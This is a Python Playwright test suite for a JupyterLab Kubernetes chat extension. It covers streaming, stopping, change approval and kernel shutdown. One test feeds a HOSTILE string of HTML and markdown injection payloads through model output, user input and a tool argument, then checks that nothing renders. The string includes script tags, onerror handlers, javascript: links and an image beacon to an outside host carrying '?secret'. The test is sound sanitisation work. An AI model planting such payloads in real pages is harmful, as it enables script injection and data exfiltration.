"""The chat in a real JupyterLab: it streams, stops, asks before it changes anything, and obeys no text."""

from __future__ import annotations

import os
import re
import signal
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from playwright.sync_api import expect

from tests.browser.book import IDLE, Book
from tests.browser.lab import Lab
from tests.servers.openai import OpenAIServer
from tests.servers.turns import Call, Hang, Pause, Say, Think
from tests.servers.wire import Recorded, WireServer
from tests.servers.wired import RESPONSES

expect.set_options(timeout=90_000)  # on a busy machine a first answer takes half a minute
HOSTILE = """**Harmless** <script>window.hit = 1</script> <img src=x onerror="window.hit = 2">
![leak](http://192.0.2.1/leak?secret) [go](javascript:window.hit=3) <svg onload="window.hit=4"></svg>
<iframe src="http://192.0.2.1/frame"></iframe> <style>body { display: none }</style> [ok](https://kubernetes.io/)

```
<img src="http://192.0.2.1/code" onerror="window.hit = 5">
```
"""
ANSWER = """The container exits because **`DATABASE_URL` is missing** {cited}.

| pod | state |
|---|---|
| checkout | CrashLoopBackOff |

1. Set it, and restart:

```
kubectl -n orders set env deploy/checkout DATABASE_URL=postgres://ledger
```
"""


@pytest.fixture
def model() -> Iterator[WireServer]:
    with OpenAIServer() as running:
        yield running


def setup(model: WireServer) -> str:
    environ = RESPONSES.environ(model, "dummy-key-of-this-test")
    return (
        f"%load_ext kubeagentix\nimport os\nimport kubeagentix as kx\nos.environ.update({environ!r})\n"
        "demo = kx.demo('crash-missing-variable')\n"
        "def replicas():\n"
        "    return demo._running.store.get('Deployment', 'orders', 'checkout')['spec']['replicas']"
    )


def answer(request: Recorded) -> list[Any]:
    """The answer, which cites the first piece of evidence that the request holds."""
    cited = re.findall(r"\be-[0-9a-f]{10}\b", str(request.body))[0]
    return [Say(ANSWER.format(cited=f"[{cited}]"), pause_s=0.01)]


@pytest.mark.parametrize("kernel", ["now", "old"])
def test_an_answer_streams_with_its_tools_and_stop_ends_it(
    notebook: Callable[..., Book], model: WireServer, kernel: str
) -> None:
    model.script(
        [Think("Exit code 1: I look at the log."), Call("list_resources", {"kind": "Pod"}), Call("get_events", {})],
        [Say("It lacks a variable. ", pause_s=0.05), Say("So far.\n\n"), Hang()],
        [Say("Since Monday.")],
    )
    book = notebook(
        setup(model), "%%kchat -n orders\nwhy is checkout failing?", "%%kchat -n orders\nsince when?", kernel=kernel
    )
    book.run_all()
    chat = book.output(1)
    expect(chat.locator(".kx-question")).to_contain_text("why is checkout failing?")
    expect(chat.locator(".kx-tool")).to_have_count(2)
    expect(chat.locator(".kx-answer")).to_contain_text("So far.")
    expect(chat.locator(".kx-pill")).to_have_text("running")
    tool = chat.locator(".kx-tool").first
    expect(tool).to_contain_text("list_resources")
    expect(tool.locator(".kx-outcome")).to_contain_text(re.compile(r"done · [\d.]+ s"))
    tool.locator("summary").click()
    expect(tool.locator("pre").last).to_contain_text("checkout")
    book.shot(f"chat-stream-light-{kernel}")
    chat.locator(".kx-stop").click()
    book.wait_run()
    expect(book.page.locator(".kx-chat")).to_have_count(0)  # the report has taken its place
    expect(chat).to_contain_text("So far.")
    expect(chat).to_contain_text("ended by cancelled")
    expect(book.output(2)).to_contain_text("Since Monday.")
    assert "tool" in [message.role for message in model.heard[-1].messages]  # the turns that were whole
    assert "application/vnd.jupyter.widget-view+json" not in book.save()
    assert (book.problems, book.left) == ([], [])


def test_an_interrupt_keeps_what_was_shown_and_the_kernel_goes_on(
    notebook: Callable[..., Book], model: WireServer
) -> None:
    model.script([Say("So far.\n\n"), Hang()])
    book = notebook(setup(model), "%%kchat -n orders\nwhy?", "40 + 2")
    book.run_all()
    expect(book.output(1).locator(".kx-answer")).to_contain_text("So far.")
    book.interrupt()
    expect(book.output(1)).to_contain_text("interrupted")
    expect(book.output(1)).to_contain_text("So far.")
    expect(book.page.locator(".kx-chat")).to_have_count(0)
    expect(book.page.locator(".jp-CodeCell").nth(2).locator(".jp-InputPrompt")).to_have_text("[ ]:")  # given up as well
    book.run_cell(2)
    expect(book.output(2)).to_contain_text("42")


@pytest.mark.parametrize("kernel", ["now", "old"])
def test_a_change_waits_for_a_click_and_denied_is_not_made(
    notebook: Callable[..., Book], model: WireServer, kernel: str
) -> None:
    scale = Call("scale_workload", {"name": "deploy/checkout", "replicas": 5})
    model.script([scale], [Say("Done.")], [Call("scale_workload", {"name": "deploy/checkout", "replicas": 7})])
    model.script(then=[Say("Not done.")])
    ask = "%%kchat -n orders --allow-writes\n"
    book = notebook(
        setup(model),
        f"{ask}scale it to 5",
        "print('now', replicas())",
        f"{ask}and to 7",
        "print('now', replicas())",
        kernel=kernel,
        theme="dark",
    )
    book.run_all()
    asked = book.output(1).locator(".kx-approval")
    expect(asked.locator("[data-sign=added]").first).to_contain_text("replicas: 5")
    expect(asked.locator(".kx-left")).to_contain_text("expires in 9:")
    book.shot(f"chat-approval-dark-{kernel}")
    asked.locator(".kx-approve").click()
    expect(book.output(2)).to_contain_text("now 5")
    expect(book.output(1)).to_contain_text("approved")
    denied = book.output(3).locator(".kx-approval")
    expect(denied.locator(".kx-always")).to_be_visible()
    denied.locator(".kx-deny").click()
    expect(book.output(4)).to_contain_text("now 5")
    expect(book.output(3)).to_contain_text("not approved")
    assert book.problems == []


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_an_open_chat_is_talked_to_while_no_cell_runs(
    notebook: Callable[..., Book], model: WireServer, theme: str
) -> None:
    model.script([Call("list_namespaces")], answer, then=[Say("Because nobody set it.")])
    book = notebook(setup(model), "%kchat -n orders", theme=theme)
    book.run_all()
    book.wait_run()
    chat, field = book.page.locator(".kx-chat"), book.page.get_by_label("Your question")
    field.click()
    book.page.keyboard.type("a b dd why")  # keys that are shortcuts of a notebook
    book.page.keyboard.press("Shift+Enter")
    book.page.keyboard.type("is checkout failing?")
    expect(field).to_have_value("a b dd why\nis checkout failing?")
    book.page.keyboard.press("Enter")
    expect(field).to_have_value("")
    expect(chat.locator(".kx-ran")).to_contain_text("openai")
    expect(chat.locator(".kx-answer table")).to_be_visible()
    expect(chat.locator(".kx-code .kx-tools")).to_be_visible()
    expect(chat.locator(".kx-answer pre")).to_have_css("padding-top", "8px")  # whatever the frontend says of a pre
    assert book.page.locator(".jp-CodeCell").count() == 2
    expect(chat.locator(".kx-answer pre")).to_have_css("padding-left", "10px")  # whatever an output's pre looks like
    expect(chat.locator(".kx-answer th").first).to_have_css("text-align", "left")
    chat.locator(".kx-answer .kx-cite").click()
    drawer = book.page.get_by_label("Evidence", exact=True)
    expect(drawer).to_contain_text("checkout")
    expect(drawer.locator(".kx-close")).to_be_focused()
    book.shot(f"chat-open-{theme}")
    book.page.keyboard.press("Escape")
    expect(chat.locator(".kx-answer .kx-cite")).to_be_focused()
    for key in ("Enter", "Space"):  # and by keyboard
        chat.locator(".kx-answer .kx-cite").press(key)
        expect(drawer.locator(".kx-close")).to_be_focused()
        book.page.keyboard.press("Enter")
        expect(drawer).to_be_hidden()
    found = chat.locator("details", has=book.page.locator(".kx-finding")).first
    found.locator("summary").press("Enter")
    found.locator(".kx-finding").first.press("Enter")
    expect(drawer.locator(".kx-piece").first).to_contain_text("checkout")
    book.page.keyboard.press("Escape")
    expect(found.locator(".kx-finding").first).to_be_focused()
    chat.locator(".kx-suggestion").first.click()
    expect(chat.locator(".kx-answer").last).to_contain_text("Because nobody set it.")
    expect(chat.locator(".kx-pill")).to_have_text("ready")
    chat.locator(".kx-retry").last.click()
    expect(chat.locator(".kx-question")).to_have_count(2)
    expect(chat.locator(".kx-pill")).to_have_text("ready")
    assert "widget-view" not in book.save()
    book.reload()
    expect(chat.locator(".kx-question")).to_have_count(2)
    expect(chat.locator(".kx-answer").last).to_contain_text("Because nobody set it.")
    expect(book.output(1).locator(".kx-report")).to_be_hidden()
    book.page.evaluate("() => window.jupyterapp.shell.currentWidget.sessionContext.shutdown()")
    book.reload()
    expect(book.output(1).get_by_text("Because nobody set it.")).to_be_visible()  # the transcript
    expect(chat).to_have_count(0)
    book.page.wait_for_function(IDLE, timeout=60_000)  # JupyterLab does not end while a kernel begins
    assert (book.problems, book.left) == ([], [])


SHUTDOWN = "() => window.jupyterapp.shell.currentWidget.sessionContext.shutdown()"
RESTART = "() => window.jupyterapp.shell.currentWidget.sessionContext.session.kernel.restart()"


def test_an_answer_whose_kernel_ends_leaves_what_was_seen(
    notebook: Callable[..., Book], model: WireServer, lab: Lab
) -> None:
    model.script([Say("So far.\n\n"), Hang()], then=[Say("So far.\n\n"), Hang()])
    pid = "\nimport pathlib\n_ = pathlib.Path('pid').write_text(str(os.getpid()))"
    book = notebook(setup(model) + pid, "%kchat", "%%kchat -n orders\nwhy?")
    book.run_all()
    chat = book.output(2)
    expect(chat.locator(".kx-answer")).to_contain_text("So far.")
    expect(chat.locator(".kx-report")).to_contain_text("still under way")
    expect(chat.locator(".kx-report")).to_contain_text("So far.")
    expect(chat.locator(".kx-pill")).to_have_text("running")
    book.page.evaluate(RESTART)
    expect(chat.locator(".kx-pill")).to_have_count(0)
    expect(chat.get_by_text("So far.")).to_be_visible()
    expect(chat.get_by_text("still under way")).to_be_visible()
    book.page.wait_for_function(IDLE, timeout=60_000)
    saved = book.save()
    assert "So far." in saved
    assert "widget-view" not in saved
    book.reload()
    expect(chat.get_by_text("So far.")).to_be_visible(timeout=20_000)
    expect(book.output(1)).to_contain_text("why?")
    expect(book.page.get_by_text("Error displaying widget")).to_have_count(0)

    # One that is killed, and one that is shut down.
    book.run_all()
    expect(chat.locator(".kx-report")).to_contain_text("So far.")
    os.kill(int(lab.folder.joinpath("pid").read_text()), signal.SIGKILL)
    book.page.locator(".jp-Dialog button").first.click()
    expect(book.page.locator(".kx-chat")).to_have_count(0)
    expect(chat.get_by_text("So far.")).to_be_visible()
    book.page.wait_for_function(IDLE, timeout=60_000)
    book.run_cell(0)
    book.wait_cell(0)
    book.run_cell(1)
    field = book.output(1).get_by_label("Your question")
    expect(field).to_be_visible()
    book.page.mouse.move(0, 0)  # what the pointer enters asks whether its kernel is there
    book.page.evaluate(SHUTDOWN)
    field.fill("why is it down?")
    field.press("Enter")
    expect(book.output(1).locator(".kx-hint")).to_contain_text("the kernel does not answer")
    expect(book.output(1).locator(".kx-pill")).to_have_text("no answer")
    expect(field).to_have_value("why is it down?")
    book.shot("chat-no-kernel")
    assert book.problems == []


def test_what_others_write_does_nothing(notebook: Callable[..., Book], model: WireServer) -> None:
    model.script(
        [Think(HOSTILE), Call("get_resource", {"kind": "Pod", "name": "<img src=x onerror='window.hit=6'>"})],
        [Say(HOSTILE, pause_s=0.01), Pause(0.3)],
        then=[Say(HOSTILE)],
    )
    book = notebook(setup(model), f"%%kchat\n{HOSTILE}", "%kchat")
    book.run_all()
    book.wait_run()
    chat = book.page.locator(".kx-chat")
    expect(chat.locator(".kx-ran")).to_be_visible()
    book.page.get_by_label("Your question").fill(HOSTILE)
    book.page.keyboard.press("Enter")
    expect(chat.locator(".kx-ran")).to_have_count(2)
    for place in (".kx-chat", ".jp-OutputArea"):
        for what in ("script", "img", "iframe", "svg[onload]", "a[href^=javascript]"):
            assert book.page.locator(f"{place} {what}").count() == 0, (place, what)
    assert book.page.evaluate("window.hit") is None
    assert (book.problems, book.left) == ([], [])
